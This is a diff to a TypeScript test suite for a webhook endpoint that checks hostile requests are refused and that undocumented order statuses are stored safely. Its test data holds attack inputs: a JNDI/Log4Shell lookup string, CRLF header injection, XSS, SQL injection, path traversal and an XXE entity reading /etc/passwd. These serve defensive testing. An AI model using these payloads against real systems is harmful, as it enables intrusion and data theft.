@@ -84,11 +84,7 @@ const BODIES: readonly (string | Buffer)[] = [
   good.replace('"1"', '1e999'),
   withField('order_uuid', `${orderUuid}' OR '1'='1`),
   withField('order_uuid', '../../etc/passwd'),
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: what an attacker sends
-  withField('order_item_status', '${jndi:ldap://192.0.2.1/a}'),
-  withField('order_item_status', 'OK\r\nSet-Cookie: a=b'),
-  withField('order_item_status', '<script>alert(1)</script>'),
-  withField('order_item_status', 'A'.repeat(60_000)),
+  withField('order_item_status', ''),
   withField('order_item_version', '9'.repeat(5000)),
   withField('order_item_version', -1),
   withField('order_item_version', { $gt: '' }),
@@ -100,6 +96,15 @@ const BODIES: readonly (string | Buffer)[] = [
   '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
   'x'.repeat(64 * 1024 + 1),
   'x'.repeat(1024 * 1024),
+];
+
+/** Statuses that Musement does not document. They mean that the item is open. */
+const STATUSES: readonly string[] = [
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: what an attacker sends
+  '${jndi:ldap://192.0.2.1/a}',
+  'OK\r\nSet-Cookie: a=b',
+  '<script>alert(1)</script>',
+  'A'.repeat(60_000),
 ];
 
 const AUTHORIZATIONS: readonly string[] = [
@@ -219,6 +224,20 @@ describe('hostile requests', () => {
     for (const body of BODIES) expectRefusal(await post({ authorization }, body), 400, 413);
     await expectNothingStored();
     expect(await quarantined()).toBe(before + BODIES.length);
+  });
+
+  test('an undocumented status is stored as text of at most 64 printable characters', async () => {
+    const order = crypto.randomUUID();
+    for (const status of STATUSES) {
+      const body = withField('order_item_status', status).replace(orderUuid, order);
+      expect((await post({ authorization }, body)).status).toBe(200);
+    }
+    const { timeline } = (await (await stack.orders.read(order)).json()) as {
+      timeline: Record<string, string>[];
+    };
+    const stored = timeline.filter(({ kind }) => kind === 'webhook').map(({ status }) => status);
+    expect(stored).toHaveLength(STATUSES.length);
+    for (const status of stored) expect(status).toMatch(/^[^\p{C}]{1,64}$/u);
   });
 
   test('I1 no repeated, huge or strangely named header lets a webhook in', async () => {
